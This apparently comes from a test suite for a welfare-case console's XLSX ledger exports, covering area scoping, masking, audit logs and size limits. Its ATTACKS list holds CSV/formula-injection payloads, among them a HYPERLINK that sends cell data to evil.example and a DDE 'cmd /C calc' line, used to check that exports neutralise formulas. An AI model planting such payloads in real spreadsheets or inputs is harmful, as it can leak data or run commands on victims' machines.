"""Ledgers (台账) as XLSX: real workbooks opened with openpyxl, scoped by the account's
areas, masked like every export, no cell that runs as a formula, each export audited."""

from __future__ import annotations

import importlib
import io
import json

import pytest
from openpyxl import load_workbook
from sqlmodel import col, select

from app.reports.cells import FORMULA_STARTS
from app.reports.masking import mask_name
from sync.server.services import audit
from sync.server.tables import Area, RecordRow
from tests.console.conftest import OTHER_TOWNSHIP, TODAY, TOWNSHIP

KINDS = ("needs", "referrals", "wishes", "visits")
YEAR = str(TODAY.year)
# What a spreadsheet runs: = + - @, a tab, a carriage return at the start of a cell.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list[tuple[object, str]]:
    """Every cell's value and data type, across every sheet of a real workbook."""
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _rows(content: bytes) -> list[tuple[object, ...]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [r for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] is not None]


def _first(ctx, record_type: str, township: str = TOWNSHIP) -> RecordRow:  # type: ignore[no-untyped-def]
    with ctx.db.reading() as s:
        row = s.exec(
            select(RecordRow)
            .where(
                col(RecordRow.type) == record_type, col(RecordRow.area_code).startswith(township)
            )
            .order_by(col(RecordRow.seq))
        ).first()
    assert row is not None, f"the demo has no {record_type} in {township}"
    return row


def _rewrite(ctx, row_id: str, **fields: object) -> None:  # type: ignore[no-untyped-def]
    with ctx.db.small_write() as s:
        row = s.get(RecordRow, row_id)
        data = json.loads(row.data)
        data.update(fields)
        row.data = json.dumps(data, ensure_ascii=False)
        s.add(row)


def _export(client, kind: str, area: str = TOWNSHIP):  # type: ignore[no-untyped-def]
    return client.get(f"/console/ledgers/{area}/{kind}.xlsx?period={YEAR}")


def test_every_ledger_is_a_real_workbook_of_the_area_masked_and_audited(ctx, signed_in) -> None:
    client = signed_in["coordinator"]
    page = client.get("/console/ledgers")
    assert page.status_code == 200 and f"/console/ledgers/{TOWNSHIP}/needs.xlsx" in page.text
    with ctx.db.reading() as s:
        people = [
            json.loads(d) for d in s.exec(select(RecordRow.data).where(RecordRow.type == "person"))
        ]
    full_names = {p["name"] for p in people if len(p["name"]) >= 2}
    id_numbers = {p["id_number"] for p in people if p.get("id_number")}
    for kind in KINDS:
        answer = _export(client, kind)
        assert answer.status_code == 200, (kind, answer.text[:200])
        assert answer.headers["content-type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml"
        )
        assert "attachment" in answer.headers["content-disposition"]
        rows = _rows(answer.content)
        assert rows, f"the demo township has {kind} in {YEAR}"
        household_ids = {r[-1] for r in rows}
        with ctx.db.reading() as s:
            areas = set(
                s.exec(select(RecordRow.area_code).where(col(RecordRow.id).in_(household_ids)))
            )
        assert areas and all(a.startswith(TOWNSHIP) for a in areas)
        texts = [str(v) for v, _ in _cells(answer.content)]
        assert not full_names & set(texts), f"a full name in the {kind} ledger"
        assert not any(i in t for i in id_numbers for t in texts)
        assert any("*" in str(r[3]) for r in rows), "heads' names are shown masked"
    with ctx.db.reading() as s:
        logged = [e.detail for e in audit.entries(s, "ledger_exported")]
    assert [d["ledger"] for d in logged] == list(KINDS)
    assert all(d["area"] == TOWNSHIP and d["period"] == YEAR and d["rows"] > 0 for d in logged)


def test_a_coordinator_gets_no_ledger_of_the_county_and_the_supervisor_only_their_county(
    ctx, signed_in
) -> None:
    assert _export(signed_in["coordinator"], "visits", "330702").status_code == 403
    assert _export(signed_in["supervisor"], "visits", OTHER_TOWNSHIP).status_code == 403
    assert _export(signed_in["charity"], "needs").status_code == 403
    county = _export(signed_in["supervisor"], "visits", "330702")
    assert county.status_code == 200
    ids = {r[-1] for r in _rows(county.content)}
    with ctx.db.reading() as s:
        areas = set(s.exec(select(RecordRow.area_code).where(col(RecordRow.id).in_(ids))))
    assert areas and all(a.startswith("330702") for a in areas)
    assert not any(a.startswith(OTHER_TOWNSHIP) for a in areas)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_ledger_cell_runs_as_a_formula(ctx, county, signed_in, attack: str) -> None:
    need, referral, wish, visit = (_first(ctx, t) for t in ("need", "referral", "wish", "visit"))
    head = _first(ctx, "person")
    _rewrite(ctx, head.id, name=attack)
    _rewrite(ctx, need.id, resource=attack, raised_on=f"{YEAR}-03-01")
    recipient = county.organisation_id  # a recipient names the organisation by its id
    _rewrite(ctx, referral.id, recipient=recipient, purpose=attack, referred_on=f"{YEAR}-03-01")
    _rewrite(ctx, wish.id, title=attack, collected_on=f"{YEAR}-03-01")
    _rewrite(ctx, visit.id, visited_at=f"{YEAR}-03-01T09:00:00+08:00")
    with ctx.db.small_write() as s:
        village = s.get(Area, visit.area_code) or Area(code=visit.area_code, name="")
        village.name = attack
        s.add(village)
    client = signed_in["supervisor"]
    for kind in KINDS:
        answer = _export(client, kind)
        assert answer.status_code == 200
        cells = _cells(answer.content)
        assert all(t != "f" for _, t in cells), f"a formula cell in the {kind} ledger"
        book = load_workbook(io.BytesIO(answer.content))
        for row in book.worksheets[0].iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, (kind, cell.coordinate, cell.value)
        # XML reads a carriage return back as a line feed: the cell shows it as typed.
        typed = attack.replace("\r", "\n")
        texts = {v for v, _ in cells}
        assert typed in texts or mask_name(typed) in texts, f"the {kind} ledger lost it"
    referrals = _cells(_export(client, "referrals").content)
    assert "婺城区慈善总会" in {v for v, _ in referrals}  # the organisation by name


def test_a_ledger_or_printout_too_large_asks_for_a_smaller_area(signed_in, monkeypatch) -> None:
    # (The package's `ledgers` is the routes module: the service module by its full name.)
    ledgers = importlib.import_module("sync.server.console.ledgers")
    client = signed_in["supervisor"]
    monkeypatch.setattr(ledgers, "MAX_ROWS", 5)
    refused = _export(client, "visits")
    assert refused.status_code == 422 and "请选择更小的区划或更短的统计期" in refused.text
    log = client.get(f"/console/areas/{TOWNSHIP}/visits/print.pdf?period={YEAR}")
    assert log.status_code == 422 and "text/html" in log.headers["content-type"]
    monkeypatch.setattr(ledgers, "MAX_ROWS", 20_000)
    monkeypatch.setattr(ledgers, "MAX_SCANNED", 10)
    assert "请选择乡镇（街道）或村（社区）" in _export(client, "needs").text
    monkeypatch.setattr(ledgers, "MAX_SCANNED", 300_000)
    assert _export(client, "needs").status_code == 200


def test_the_referrals_ledger_names_a_listed_purpose_by_its_label(ctx, signed_in) -> None:
    referral = _first(ctx, "referral")
    _rewrite(ctx, referral.id, purpose="assistance_referral", referred_on=f"{YEAR}-03-01")
    answer = _export(signed_in["supervisor"], "referrals")
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    values = {cell.value for row in sheet.iter_rows() for cell in row}
    assert "救助帮扶转介" in values and "assistance_referral" not in values
